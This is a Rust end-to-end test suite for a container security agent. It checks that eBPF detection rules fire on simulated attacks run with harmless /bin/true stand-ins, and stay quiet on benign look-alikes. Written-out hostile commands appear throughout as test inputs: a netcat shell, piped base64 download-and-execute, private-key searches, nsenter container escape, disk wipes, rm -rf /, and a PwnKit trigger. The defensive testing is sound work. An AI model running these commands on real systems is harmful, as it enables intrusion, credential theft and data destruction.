//! End to end, part 2: the rule categories `agent_rules_e2e.rs` does not cover, in the real
//! `ward agent` (real eBPF) against real podman containers, one category per test, plus a
//! benign suite of look-alikes (from the rules' own quiet tests) that must stay quiet.
//!
//! Harmless stand-ins only: every "tool" is a copy of `/bin/true` under the tool's name in
//! `/tmp/t` of a throwaway container, called by its full path (`/tmp/t/rm -rf /` runs `true`;
//! `/tmp/t/mkfs.ext4 /dev/sdb` too). The one payload that runs is base64 of a Python line that
//! runs `true`. Nothing leaves the machine: the containers use the host network and talk to
//! nobody (the stand-in `nc` and `curl` connect nowhere).
//!
//! Negative controls are deterministic through a sentinel, as in `agent_e2e.rs`: after the
//! benign actions the same container runs a compiler; once that finding is out, everything
//! the container did before has been processed.
//!
//! Needs root and podman (`ward_testkit::require_containers!` skips otherwise).

use serde_json::Value;
use ward_testkit::agent::WardAgent;
use ward_testkit::{require_containers, Container, Images, Network};

mod rules_common;
use rules_common::*;
fn debian(images: &Images, prefix: &str) -> Container {
    let c = Container::builder(&images.debian)
        .name_prefix(prefix)
        .network(Network::Host)
        .run(&["sleep", "600"])
        .unwrap();
    c.exec_ok(&["mkdir", "-p", "/tmp/t"]).unwrap();
    c
}

/// `/bin/true` copied to `/tmp/t/<name>` inside `c`: a harmless binary with a tool's name.
fn stand_in(c: &Container, name: &str) -> String {
    let path = format!("/tmp/t/{name}");
    c.exec_ok(&["cp", "/bin/true", &path]).unwrap();
    path
}

fn sh(c: &Container, script: &str) {
    c.exec_ok(&["sh", "-c", script]).unwrap();
}

/// What every rule finding carries: the rule's category, severity, ATT&CK, next steps, the
/// rule id, typed evidence, and the container.
fn assert_rule_finding(
    f: &Value,
    c: &Container,
    category: &str,
    severity: &str,
    technique: &str,
    evidence: (&str, &str),
) {
    assert_eq!(f["category"], category, "{f:#}");
    assert_eq!(f["severity"], severity, "{f:#}");
    assert_eq!(f["sourceProperties"]["Detector"], "rules");
    assert_eq!(f["containers"][0]["name"], c.name(), "{f:#}");
    let ids = f["sourceProperties"]["Mitre_Technique_Ids"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(ids.iter().any(|t| t == technique), "{technique}: {f:#}");
    assert!(!f["mitreAttack"]["primaryTactic"]
        .as_str()
        .unwrap_or("")
        .is_empty());
    assert!(!f["nextSteps"].as_str().unwrap_or("").is_empty());
    let ev = f["sourceProperties"]["Evidence"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(
        ev.iter()
            .any(|e| e["field"] == evidence.0 && e["value"] == evidence.1),
        "evidence {evidence:?} in {f:#}"
    );
}

/// Runs `argv` in `c`; the finding of `rule` for it (its args are `argv`).
fn fires(agent: &WardAgent, c: &Container, rule: &str, argv: &[&str]) -> Value {
    c.exec_ok(argv).unwrap();
    let want: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
    wait_rule(agent, c.id(), rule, |f| args(f) == want)
}

#[test]
fn netcat_running_a_shell_for_a_peer() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-nc");
    let nc = stand_in(&c, "nc");
    let f = fires(
        agent,
        &c,
        "NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER",
        &[&nc, "-e", "/bin/sh", "127.0.0.1", "9"],
    );
    assert_rule_finding(
        &f,
        &c,
        "Execution: Netcat Remote Code Execution in Container",
        "LOW",
        "T1059.004",
        ("basename", "nc"),
    );
    // `nc HOST PORT | sh`: the shell's commands come from netcat (pipe neighbours, paired by
    // the engine's pipe index whichever of the two exec'd first).
    sh(&c, &format!("{nc} 127.0.0.1 9 | sh"));
    let f = wait_rule(
        agent,
        c.id(),
        "NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER",
        |f| args(f) == ["sh"] || args(f) == [nc.as_str(), "127.0.0.1", "9"],
    );
    let ev = f["sourceProperties"]["Evidence"]
        .as_array()
        .unwrap()
        .clone();
    assert!(
        ev.iter().any(
            |e| (e["field"] == "stdin_writer.basename" && e["value"] == "nc")
                || (e["field"] == "stdout_reader.basename" && e["value"] == "sh")
        ),
        "{f:#}"
    );
}

#[test]
fn piped_encoded_download_and_code_execution() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-piped");
    // The stand-in curl prints nothing: base64 decodes nothing and sh runs nothing.
    let curl = stand_in(&c, "curl");
    sh(
        &c,
        &format!("{curl} -s http://127.0.0.1:9/p.b64 | base64 -d | sh"),
    );
    // Each rule fires on whichever member of its pair exec'd second, once.
    let dl = wait_rule(agent, c.id(), "PIPED_ENCODED_DOWNLOAD", |_| true);
    assert_eq!(
        dl["category"],
        "Command and Control: Piped Encoded Download"
    );
    assert_eq!(dl["severity"], "MEDIUM");
    let ev = dl["sourceProperties"]["Evidence"]
        .as_array()
        .unwrap()
        .clone();
    assert!(
        ev.iter().any(
            |e| (e["field"] == "stdin_writer.basename" && e["value"] == "curl")
                || (e["field"] == "stdout_reader.basename" && e["value"] == "base64")
        ),
        "{dl:#}"
    );
    let run = wait_rule(agent, c.id(), "PIPED_ENCODED_CODE_EXECUTION", |_| true);
    assert_rule_finding(
        &run,
        &c,
        "Command and Control: Piped Encoded Code Execution Detected",
        "HIGH",
        "T1140",
        (
            "basename",
            if args(&run) == ["sh"] { "sh" } else { "base64" },
        ),
    );
    let others = after_sentinel(agent, &c);
    let mut ids: Vec<&str> = others
        .iter()
        .filter_map(|f| f["sourceProperties"]["Rule_Id"].as_str())
        .collect();
    ids.sort();
    assert_eq!(
        ids,
        ["PIPED_ENCODED_CODE_EXECUTION", "PIPED_ENCODED_DOWNLOAD"],
        "one finding each: {others:#?}"
    );
}

#[test]
fn search_for_private_keys() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-keys");
    let grep = stand_in(&c, "grep");
    let f = fires(
        agent,
        &c,
        "SEARCH_PRIVATE_KEYS_OR_PASSWORDS",
        &[&grep, "-rl", "BEGIN RSA PRIVATE KEY", "/"],
    );
    assert_rule_finding(
        &f,
        &c,
        "Credential Access: Search Private Keys or Passwords",
        "LOW",
        "T1552.004",
        ("basename", "grep"),
    );
}

#[test]
fn gpg_key_reconnaissance() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-gpg");
    let find = stand_in(&c, "find");
    let f = fires(
        agent,
        &c,
        "GPG_KEY_RECONNAISSANCE",
        &[&find, "/", "-type", "d", "-name", ".gnupg"],
    );
    assert_rule_finding(
        &f,
        &c,
        "Credential Access: GPG Key Reconnaissance",
        "CRITICAL",
        "T1552.004",
        ("basename", "find"),
    );
}

#[test]
fn steganography_tool() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-stego");
    let steghide = stand_in(&c, "steghide");
    let f = fires(
        agent,
        &c,
        "STEGANOGRAPHY_TOOL_DETECTED",
        &[&steghide, "extract", "-sf", "cat.jpg", "-p", ""],
    );
    assert_rule_finding(
        &f,
        &c,
        "Command and Control: Steganography Tool Detected",
        "CRITICAL",
        "T1001.002",
        ("basename", "steghide"),
    );
}

#[test]
fn local_reconnaissance_tool() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-recon");
    let pspy = stand_in(&c, "pspy64");
    let f = fires(
        agent,
        &c,
        "LOCAL_RECONNAISSANCE_TOOL_EXECUTION",
        &[&pspy, "-pf", "-i", "1000"],
    );
    assert_rule_finding(
        &f,
        &c,
        "Execution: Local Reconnaissance Tool Execution",
        "CRITICAL",
        "T1082",
        ("basename", "pspy64"),
    );
}

#[test]
fn kubernetes_attack_tool() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-k8s");
    let kh = stand_in(&c, "kube-hunter");
    let f = fires(
        agent,
        &c,
        "KUBERNETES_ATTACK_TOOL_EXECUTION",
        &[&kh, "--pod"],
    );
    assert_rule_finding(
        &f,
        &c,
        "Execution: Kubernetes Attack Tool Execution",
        "CRITICAL",
        "T1613",
        ("basename", "kube-hunter"),
    );
}

#[test]
fn container_escape_through_nsenter_into_pid_1() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-escape");
    let nsenter = stand_in(&c, "nsenter");
    let f = fires(
        agent,
        &c,
        "CONTAINER_ESCAPE",
        &[
            &nsenter, "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash",
        ],
    );
    assert_rule_finding(
        &f,
        &c,
        "Execution: Container Escape",
        "CRITICAL",
        "T1611",
        ("basename", "nsenter"),
    );
}

#[test]
fn remove_bulk_data_from_disk() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-wipe");
    let mkfs = stand_in(&c, "mkfs.ext4");
    let f = fires(
        agent,
        &c,
        "REMOVE_BULK_DATA_FROM_DISK",
        &[&mkfs, "-F", "/dev/sdb"],
    );
    assert_rule_finding(
        &f,
        &c,
        "Impact: Remove Bulk Data From Disk",
        "LOW",
        "T1485",
        ("basename", "mkfs.ext4"),
    );
}

#[test]
fn malicious_command_line() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-rmrf");
    let rm = stand_in(&c, "rm");
    let f = fires(
        agent,
        &c,
        "DETECT_MALICIOUS_CMDLINES",
        &[&rm, "-rf", "--no-preserve-root", "/"],
    );
    assert_rule_finding(
        &f,
        &c,
        "Impact: Detect Malicious Cmdlines",
        "CRITICAL",
        "T1485",
        ("basename", "rm"),
    );
}

#[test]
fn base64_encoded_python_script() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-b64py");
    // base64 of `import subprocess; subprocess.run(['true'])`: it runs /bin/true.
    let code = "import base64;exec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3M7IHN1YnByb2Nlc3MucnVuKFsndHJ1ZSddKQ=='))";
    let f = fires(
        agent,
        &c,
        "BASE64_ENCODED_PYTHON_SCRIPT_EXECUTED",
        &["python3", "-c", code],
    );
    assert_rule_finding(
        &f,
        &c,
        "Defense Evasion: Base64 Encoded Python Script Executed",
        "MEDIUM",
        "T1027",
        ("argv.base64", "import subprocess; subprocess.run(['true'])"),
    );
}

#[test]
fn shell_under_cups_foomatic_rip() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-cups");
    // A python3 copy named foomatic-rip runs the shell, as the CUPS filter does for a
    // malicious FoomaticRIPCommandLine (CVE-2024-47177 chain); the command writes in /tmp.
    c.exec_ok(&["cp", "/usr/bin/python3", "/usr/local/bin/foomatic-rip"])
        .unwrap();
    c.exec_ok(&[
        "/usr/local/bin/foomatic-rip",
        "-c",
        "import subprocess; subprocess.run('echo 1 > /tmp/I_AM_VULNERABLE', shell=True)",
    ])
    .unwrap();
    let f = wait_rule(
        agent,
        c.id(),
        "POSSIBLE_ARBITRARY_COMMAND_EXECUTION_THROUGH_CUPS",
        |_| true,
    );
    assert_rule_finding(
        &f,
        &c,
        "Execution: Possible Arbitrary Command Execution through CUPS (CVE-2024-47076)",
        "CRITICAL",
        "T1203",
        ("parent.basename", "foomatic-rip"),
    );
    assert_eq!(args(&f), ["/bin/sh", "-c", "echo 1 > /tmp/I_AM_VULNERABLE"]);
}

/// Look-alikes from the rules' own quiet tests, run for real: nothing is reported.
#[test]
fn benign_look_alikes_of_the_second_set_stay_quiet() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-benign2");
    let t: Vec<String> = [
        "nc",
        "curl",
        "jq",
        "gpg",
        "nsenter",
        "kubectl",
        "kube-bench",
        "convert",
        "useradd",
    ]
    .iter()
    .map(|n| stand_in(&c, n))
    .collect();
    let [nc, curl, jq, gpg, nsenter, kubectl, kube_bench, convert, useradd] = &t[..] else {
        unreachable!()
    };
    // netcat port checks and a listener; a download into jq; decoding a local file into tee;
    // decoded JSON read by python -c; a shell fed by cat, not by a decoder.
    c.exec_ok(&[nc, "-z", "-w", "3", "127.0.0.1", "9"]).unwrap();
    sh(
        &c,
        &format!("{curl} -s http://127.0.0.1:9/token | {jq} .token"),
    );
    sh(
        &c,
        "echo aGVsbG8= > /tmp/cert.b64 && cat /tmp/cert.b64 | base64 -d | tee /tmp/cert.pem > /dev/null",
    );
    sh(
        &c,
        "echo eyJ1c2VyIjogImEifQ== | base64 -d | python3 -c 'import json,sys; json.load(sys.stdin)'",
    );
    sh(&c, "echo true > /tmp/setup.sh && cat /tmp/setup.sh | sh");
    // Credential-looking searches that are not: a certificate check, a config's password
    // line, cleaning .pyc files, fixing ~/.ssh permissions, listing gpg keys.
    sh(
        &c,
        "grep -q 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt || true",
    );
    sh(
        &c,
        "mkdir -p /tmp/app /root/.ssh && echo 'password=x' > /tmp/app/app.conf && grep -i '^password' /tmp/app/app.conf > /dev/null",
    );
    c.exec_ok(&["find", "/tmp/app", "-name", "*.pyc", "-delete"])
        .unwrap();
    c.exec_ok(&[
        "find",
        "/root/.ssh",
        "-type",
        "f",
        "-exec",
        "chmod",
        "600",
        "{}",
        ";",
    ])
    .unwrap();
    c.exec_ok(&[gpg, "--list-keys"]).unwrap();
    // Escape look-alikes: a CNI's nsenter into a netns, reading core_pattern.
    c.exec_ok(&[nsenter, "--net=/var/run/netns/cni-1234", "ip", "addr"])
        .unwrap();
    sh(&c, "cat /proc/sys/kernel/core_pattern > /dev/null");
    // Bulk-data look-alikes: a small swap file, cleaning a build dir, old cache files.
    c.exec_ok(&["dd", "if=/dev/zero", "of=/tmp/swapfile", "bs=1k", "count=4"])
        .unwrap();
    sh(&c, "mkdir -p /tmp/build && rm -rf /tmp/build");
    c.exec_ok(&["find", "/tmp/app", "-type", "f", "-mtime", "+7", "-delete"])
        .unwrap();
    // Account and permission look-alikes.
    c.exec_ok(&["chmod", "755", nc]).unwrap();
    c.exec_ok(&[useradd, "-u", "1001", "-m", "app"]).unwrap();
    sh(&c, "grep root /etc/passwd > /tmp/out");
    // Tool look-alikes: kubectl, a defensive scanner, an image converter, a log grep.
    c.exec_ok(&[kubectl, "get", "pods", "-n", "default"])
        .unwrap();
    c.exec_ok(&[kube_bench, "run", "--targets", "node"])
        .unwrap();
    c.exec_ok(&[convert, "in.png", "-resize", "50%", "out.jpg"])
        .unwrap();
    sh(&c, "grep steghide /var/log/dpkg.log || true");
    // An ordinary python -c with a socket import, not encoded.
    c.exec_ok(&["python3", "-c", "import socket; socket.gethostname()"])
        .unwrap();
    let others = after_sentinel(agent, &c);
    assert!(others.is_empty(), "benign actions reported: {others:#?}");
}

#[test]
fn polkit_pkexec_with_an_empty_argv() {
    let images = require_containers!();
    let agent = agent(&images);
    let c = debian(&images, "rules-pwnkit");
    let pkexec = stand_in(&c, "pkexec");
    // execve(pkexec, {NULL}, envp) as an ordinary user: PwnKit's first step. (Linux 5.18 and
    // later give the program an argv of one empty string instead.)
    let code = format!(
        "import ctypes; libc = ctypes.CDLL(None); argv = (ctypes.c_char_p * 1)(None); \
         libc.execve(b'{pkexec}', argv, argv)"
    );
    c.exec_ok(&[
        "setpriv",
        "--reuid=1000",
        "--regid=1000",
        "--clear-groups",
        "python3",
        "-c",
        &code,
    ])
    .unwrap();
    let f = wait_rule(
        agent,
        c.id(),
        "POLKIT_LOCAL_PRIVILEGE_ESCALATION_VULNERABILITY",
        |_| true,
    );
    assert_rule_finding(
        &f,
        &c,
        "Privilege Escalation: Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        "CRITICAL",
        "T1068",
        ("basename", "pkexec"),
    );
    // pkexec run the ordinary way, as that user: quiet.
    c.exec_ok(&["setpriv", "--reuid=1000", &pkexec, "/usr/bin/id"])
        .unwrap();
    let others = after_sentinel(agent, &c);
    assert_eq!(others.len(), 1, "{others:#?}");
}
